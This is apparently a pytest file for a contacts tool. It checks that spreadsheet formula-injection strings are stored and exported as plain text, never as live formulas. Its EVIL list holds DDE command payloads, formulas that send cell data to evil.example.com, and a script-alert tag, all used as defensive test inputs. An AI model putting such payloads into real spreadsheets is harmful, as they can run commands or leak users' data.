"""Text stays text: nothing that stands in anybody's cell ever becomes a formula, whichever way it goes.

The texts are OWASP's list for spreadsheets, its full-width kin, and what programs for tables were caught evaluating.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from connectkit.config.config import Config
from connectkit.model import CellValue, Row
from connectkit.repair.undo import plan_undo
from connectkit.store import NoMemory
from connectkit.sync import apply, sync
from tests.book import PLAIN, book, counter
from tests.commands.conftest import DAY, Place, place
from tests.laws.sheets import GoogleSheet
from tests.wire import Cell
from tests.wire import Formula as Typed

__all__ = ["place"]  # the fixture

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
EVIL = (
    *(f"{start}1+1" for start in STARTS),
    '=HYPERLINK("https://evil.example.com/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '+WEBSERVICE("https://evil.example.com")',
    '=IMPORTXML(CONCAT("https://evil.example.com/",A1),"//a")',
    "{=1+1}",
    "'=1+1",
    "=1+1;=2+2",
    '"=1+1',
    "=<b>1</b><script>alert(1)</script>",
)
TEXTS = ("notes", "tier", "email", "phone", "linkedin", "channel", "company", "title", "city", "met", "birthday", "role", "tags", "interests", "offers", "needs", "state")  # fmt: skip


def contacts() -> list[dict[str, CellValue]]:
    """A person for each text, who has it in every field, the name and the inbox included."""
    return [
        {"name": f"{text} {n}", "last_contact": date(2026, 1, 1 + n), "log": f"call yesterday: {text}; promise: {text} by Fri"}
        | dict.fromkeys(TEXTS, text)
        for n, text in enumerate(EVIL)
    ]  # fmt: skip


def others() -> dict[str, list[dict[str, CellValue]]]:
    """The other tabs a person types into."""
    return {
        "log": [{"date": date(2026, 2, 1), "name": f"{EVIL[0]} 0", "kind": text, "direction": text, "summary": text} for text in EVIL],
        "promises": [{"what": text, "who": f"{EVIL[0]} 0", "by": text, "due": date(2026, 11, 20)} for text in EVIL],
        "goals": [{"goal": text, "count": 3, "counting": text} for text in EVIL],
        "gives": [{"title": text, "link": text, "topics": text} for text in EVIL],
    }  # fmt: skip


def formulas(data: bytes) -> list[str]:
    """Every formula in a workbook's cells: as openpyxl sees them, and as the XML says."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                found += [
                    f"{name}: {text}" for text in re.findall(r"<f[ >/][^<]*", parts.read(name).decode())
                ]
    return found


def evil(data: bytes) -> set[str]:
    """Which of the texts stand in a workbook, so that a test which lost them all can't pass."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {str(value) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for value in row if value}  # fmt: skip
    return {text for text in EVIL if any(text.strip() in cell for cell in cells)}


@pytest.fixture
def filled(place: Place) -> Place:
    """A folder with the workbook of all texts, synced once."""
    place.fill(contacts(), **others())
    place.run("sync", "--today", DAY, "--force")
    return place


def test_no_way_through_a_workbook_makes_a_formula_of_text(filled: Place) -> None:
    seen: list[bytes] = [filled.workbook.read_bytes()]
    for text in EVIL[:4]:
        filled.run("log", f"{EVIL[11]} 11", f"call: {text}; promise: {text}", "--today", DAY)
    seen.append(filled.workbook.read_bytes())
    table = io.StringIO()
    csv.writer(table).writerows([["Name", "Notes", "Company", "Email"], *([f"{text} new", text, text, text] for text in EVIL)])  # fmt: skip
    (filled.folder / "more.csv").write_text(table.getvalue(), "utf-8")
    filled.run("import", "more.csv", "--apply", "--today", DAY)
    seen.append(filled.workbook.read_bytes())
    filled.run("undo")
    filled.run("undo")
    seen.append(filled.workbook.read_bytes())
    filled.run("export", "--to", "xlsx", "--out", "out.xlsx")
    filled.run("restore", "1", "--to", "former.xlsx")
    seen += [(filled.folder / name).read_bytes() for name in ("out.xlsx", "former.xlsx")]

    assert [formulas(data) for data in seen] == [[]] * len(seen)
    assert [sorted(set(EVIL) - evil(data)) for data in seen] == [[]] * len(seen)


def test_a_table_that_goes_out_holds_no_cell_that_a_program_would_evaluate(filled: Place) -> None:
    names = filled.column("Contacts", "Name")
    filled.run("export", "--to", "csv", "--out", "out.csv")

    rows = list(csv.reader(io.StringIO((filled.folder / "out.csv").read_text("utf-8-sig"))))

    risky = [cell for row in rows for cell in row if cell[:1] in {*"=+-@\t\r\n", "＝", "＋", "－", "＠"}]
    assert risky == []
    assert len(rows) == len(EVIL) + 1
    filled.run("import", "out.csv", "--apply", "--today", DAY)
    assert filled.column("Contacts", "Name") == names


def test_the_page_of_the_review_shows_tags_as_text(filled: Place) -> None:
    filled.run("review", "--html", "review.html", "--today", DAY)

    page = (filled.folder / "review.html").read_text("utf-8")

    assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in page


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula_in_what_we_wrote(filled: Place, tmp_path: Path) -> None:
    filled.run("export", "--to", "csv", "--out", "out.csv")
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path / "seen")]
    subprocess.run([*command, str(filled.workbook), str(filled.folder / "out.csv")], check=True, capture_output=True, timeout=110)  # fmt: skip

    for name in ("people.fods", "out.fods"):
        text = (tmp_path / "seen" / name).read_text("utf-8")
        assert "cmd|" in text
        assert re.findall(r'table:formula="[^"]*"', text) == []


def rows_of(sheet: GoogleSheet, title: str) -> list[Row]:
    """The rows of a tab, as the person sees them."""
    return next(raw.rows for raw in sheet.workbook.tabs if raw.title == title)


def test_on_a_google_sheet_only_our_own_links_are_formulas() -> None:
    header: Row = ["Name", "Last contact", "Notes", "Email", "Company", "Needs", "Tier", "Log (connectkit)"]
    rows = [
        [Cell(f"{text} {n}"), date(2026, 1, 1 + n), *[Cell(text)] * 5, Cell(f"call yesterday: {text}; promise: {text} by Fri")]
        for n, text in enumerate(EVIL)
    ]  # fmt: skip
    sheet = GoogleSheet(book(header, *rows))
    numbers = counter()
    reports = []
    for day in range(3):
        reports.append(sync(sheet, Config(per_week=30), today=date(2026, 11, 23 + day), new_id=numbers, templates=PLAIN, force=True))  # fmt: skip
        sheet.end()
        for row in rows_of(sheet, "Drafts")[1:4]:
            row[0] = "Sent"
    undo = plan_undo(sheet.read(), Config(), reports[1].plan.changes)
    apply(sheet, undo.plan, NoMemory())
    sheet.end()

    found = [(one.title, row, at, str(cell.value)) for one in sheet.book.sheets for row, cells in enumerate(one.rows) for at, cell in enumerate(cells) if isinstance(cell.value, Typed)]  # fmt: skip
    at = rows_of(sheet, "Drafts")[0].index("Open")
    assert {(title, column) for title, _, column, _ in found} <= {("Drafts", at)}
    assert all("INDEX($" in text and "evil" not in text for *_, text in found)
    assert len(rows_of(sheet, "Log")) > len(EVIL)
    sheet.server.assert_clean()
